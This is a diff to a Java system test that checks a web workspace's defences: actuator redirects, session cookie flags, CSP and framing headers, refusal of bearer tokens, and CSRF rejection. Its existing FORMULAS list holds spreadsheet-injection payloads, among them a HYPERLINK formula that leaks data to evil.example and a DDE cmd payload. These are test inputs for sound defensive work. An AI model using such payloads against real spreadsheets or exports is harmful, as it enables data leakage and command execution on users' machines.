@@ -1,6 +1,7 @@
 package org.coophub.systemtests.security;
 
 import java.net.URI;
+import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.security.GeneralSecurityException;
@@ -63,6 +64,12 @@ class AttackSweepSystemTest {
 			"/actuator/heapdump", "/actuator/loggers", "/actuator/mappings", "/actuator/metrics",
 			"/actuator/prometheus", "/actuator/clock", "/actuator/threaddump");
 
+	/** The workspace's session cookie (its application.yml). */
+	static final String WORKSPACE_SESSION = "COOPHUB_WORKSPACE_SESSION";
+
+	/** Where the workspace sends a browser without a session: its sign-in start. */
+	static final String WORKSPACE_SIGN_IN = "/oauth2/authorization/identity";
+
 	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?leak\")", "@SUM(A1:A9)",
 			"+1+cmd|' /C calc'!A0", "-2+3");
 
@@ -110,6 +117,7 @@ class AttackSweepSystemTest {
 		pathsAndActuator();
 		signedReportLinks();
 		securityHeaders();
+		workspaceFrontDoor();
 		Duration took = Duration.ofNanos(System.nanoTime() - started);
 		this.ledger.writeTo(REPORT, took);
 
@@ -449,8 +457,10 @@ class AttackSweepSystemTest {
 		for (StackService service : StackService.values()) {
 			for (String endpoint : ACTUATOR) {
 				Answer answer = this.http.get(url(service, endpoint), null);
-				// identity-service sends a browser without a session to its sign-in form
-				boolean toSignIn = answer.status() == 302 && answer.header("location").endsWith("/login");
+				// identity-service sends a browser without a session to its sign-in
+				// form, the workspace to identity-service's (through its sign-in start)
+				boolean toSignIn = answer.status() == 302 && (answer.header("location").endsWith("/login")
+						|| answer.header("location").endsWith(WORKSPACE_SIGN_IN));
 				this.ledger.attempt(category, service + " " + endpoint + " without a token",
 						Set.of(401, 403, 404).contains(answer.status()) || toSignIn, answer.toString());
 			}
@@ -491,26 +501,106 @@ class AttackSweepSystemTest {
 		});
 	}
 
+	/**
+	 * The pages people open: the workspace's (the dashboard's among them), signed in and
+	 * not, and reporting-service's annual report by signed link. reporting-service has no
+	 * page of its own any more.
+	 */
 	private void securityHeaders() {
 		String category = "Security headers";
-		var page = new UserSignIn(this.stack).dashboardPage("ld-viewer");
+		UserSignIn.SignedInPage signedIn = new UserSignIn(this.stack).workspacePage("ld-viewer", "index.html");
 		Map<String, String> headers = new LinkedHashMap<>();
-		page.headers().map().forEach((name, values) -> headers.put(name.toLowerCase(Locale.ROOT), values.get(0)));
-		Answer dashboard = new Answer(page.statusCode(), headers, page.body());
+		signedIn.answer()
+			.headers()
+			.map()
+			.forEach((name, values) -> headers.put(name.toLowerCase(Locale.ROOT), values.get(0)));
+		Answer dashboard = new Answer(signedIn.answer().statusCode(), headers, signedIn.answer().body());
 		precondition(dashboard.status() == 200 && dashboard.header("content-type").startsWith("text/html"),
-				"ld-viewer opens the dashboard page", dashboard.status());
-		headersHeld(category, "dashboard page (signed in)", dashboard);
-		headersHeld(category, "dashboard page (not signed in)",
-				this.http.get(url(StackService.REPORTING, "/"), null, "Accept", "text/html"));
+				"ld-viewer opens the workspace's dashboard page", dashboard.status());
+		workspaceHeadersHeld(category, "workspace dashboard page (signed in)", dashboard);
+		String session = signedIn.cookies()
+			.stream()
+			.filter((cookie) -> cookie.startsWith(WORKSPACE_SESSION + "="))
+			.reduce((first, last) -> last)
+			.orElse("");
+		precondition(!session.isEmpty(), "the workspace sets its session cookie on signing in", signedIn.cookies());
+		String lowerCase = session.toLowerCase(Locale.ROOT).replace(" ", "");
+		this.ledger.attempt(category, "workspace session cookie: HttpOnly (no script reads it)",
+				lowerCase.contains(";httponly"), session);
+		this.ledger.attempt(category, "workspace session cookie: SameSite=Lax (no cross-site POST carries it)",
+				lowerCase.contains(";samesite=lax"), session);
+
+		Answer signedOut = this.http.get(this.stack.workspaceUrl().resolve("/index.html"), null, "Accept", "text/html");
+		this.ledger.attempt(category, "workspace dashboard page (not signed in): sent to the sign-in",
+				signedOut.status() == 302 && signedOut.header("location").endsWith(WORKSPACE_SIGN_IN)
+						&& !signedOut.body().contains("<main"),
+				signedOut.status() + " " + signedOut.headers());
+		workspaceHeadersHeld(category, "workspace dashboard page (not signed in)", signedOut);
+
 		long expires = Instant.now().plusSeconds(3_600).getEpochSecond();
-		headersHeld(category, "annual report by signed link",
-				this.http.get(url(StackService.REPORTING, "/reports/" + this.agreement + "/2020?expires=" + expires
-						+ "&sig=" + reportSignature(this.agreement, 2020, expires)), null));
-		this.ledger.attempt(category, "dashboard page: X-Content-Type-Options nosniff",
-				"nosniff".equals(dashboard.header("x-content-type-options")), dashboard.headers().toString());
-		this.ledger.attempt(category, "dashboard page: framing refused (frame-ancestors 'none')",
-				dashboard.header("content-security-policy").contains("frame-ancestors 'none'"),
-				dashboard.headers().toString());
+		Answer report = this.http.get(url(StackService.REPORTING, "/reports/" + this.agreement + "/2020?expires="
+				+ expires + "&sig=" + reportSignature(this.agreement, 2020, expires)), null);
+		headersHeld(category, "annual report by signed link", report);
+		this.ledger.attempt(category, "annual report: X-Content-Type-Options nosniff",
+				"nosniff".equals(report.header("x-content-type-options")), report.headers().toString());
+		this.ledger.attempt(category, "annual report: framing refused (frame-ancestors 'none')",
+				report.header("content-security-policy").contains("frame-ancestors 'none'"),
+				report.headers().toString());
+	}
+
+	/**
+	 * The workspace takes its own session, nothing else: a user's access token sent to it
+	 * opens nothing, and a change from a signed-in browser without the CSRF header (what
+	 * a page of another site could make the browser send) reaches no service. ld-editor
+	 * speaks for BQL-LD, a party to the agreement: with the header, the activity would be
+	 * recorded.
+	 */
+	private void workspaceFrontDoor() {
+		String category = "Workspace (401/403)";
+		URI workspace = this.stack.workspaceUrl();
+		Answer bearer = this.http.get(workspace.resolve("/api/v1/agreements"), this.ldEditor.access());
+		this.ledger.attempt(category, "ld-editor's access token as a bearer token, no session",
+				bearer.status() == 401 && bearer.isProblem(), bearer.toString());
+		Answer me = this.http.get(workspace.resolve("/api/v1/me"), null);
+		this.ledger.attempt(category, "GET /api/v1/me without a session", me.status() == 401 && me.isProblem(),
+				me.toString());
+
+		UserSignIn editor = new UserSignIn(this.stack);
+		editor.workspacePage("ld-editor", "index.html");
+		HttpResponse<String> read = editor.fromWorkspace("GET", "/api/v1/agreements/" + this.agreement, null);
+		precondition(read.statusCode() == 200, "ld-editor reads the agreement through the workspace",
+				read.statusCode() + " " + read.body());
+		HttpResponse<String> withoutHeader = editor.fromWorkspace("POST", "/api/v1/activities",
+				activityBody("Họp qua trang khác"));
+		this.ledger.attempt(category, "ld-editor's session records an activity without X-XSRF-TOKEN",
+				withoutHeader.statusCode() == 403, withoutHeader.statusCode() + " " + withoutHeader.body());
+		HttpResponse<String> forgedHeader = editor.fromWorkspace("POST", "/api/v1/activities",
+				activityBody("Họp qua trang khác"), "X-XSRF-TOKEN", "forged-" + this.suffix);
+		this.ledger.attempt(category, "ld-editor's session records an activity with a forged X-XSRF-TOKEN",
+				forgedHeader.statusCode() == 403, forgedHeader.statusCode() + " " + forgedHeader.body());
+		Answer activities = adminGet(StackService.ACTIVITY, "/api/v1/activities?agreementId=" + this.agreement);
+		this.ledger.attempt(category, "nothing stored: no activity added",
+				activities.json().at("/page/totalElements").asLong() == FORMULAS.size(), activities.toString());
+	}
+
+	/**
+	 * What the workspace's pages must send: its scripts only, never in a frame (the
+	 * policy's frame-ancestors and X-Frame-Options for older browsers), no sniffing, and
+	 * no address sent to another site.
+	 */
+	private void workspaceHeadersHeld(String category, String what, Answer answer) {
+		String csp = answer.header("content-security-policy");
+		String seen = answer.status() + " " + answer.headers();
+		this.ledger.attempt(category, what + ": Content-Security-Policy runs only its own scripts",
+				csp.contains("default-src 'self'") && csp.contains("script-src 'self'") && !csp.contains("unsafe-eval")
+						&& !csp.matches(".*script-src[^;]*unsafe-inline.*"),
+				seen);
+		this.ledger.attempt(category, what + ": framing refused (frame-ancestors 'none', X-Frame-Options DENY)",
+				csp.contains("frame-ancestors 'none'") && "DENY".equals(answer.header("x-frame-options")), seen);
+		this.ledger.attempt(category, what + ": X-Content-Type-Options nosniff",
+				"nosniff".equals(answer.header("x-content-type-options")), seen);
+		this.ledger.attempt(category, what + ": Referrer-Policy sends no address to other sites",
+				Set.of("no-referrer", "same-origin").contains(answer.header("referrer-policy")), seen);
 	}
 
 	private void headersHeld(String category, String what, Answer answer) {
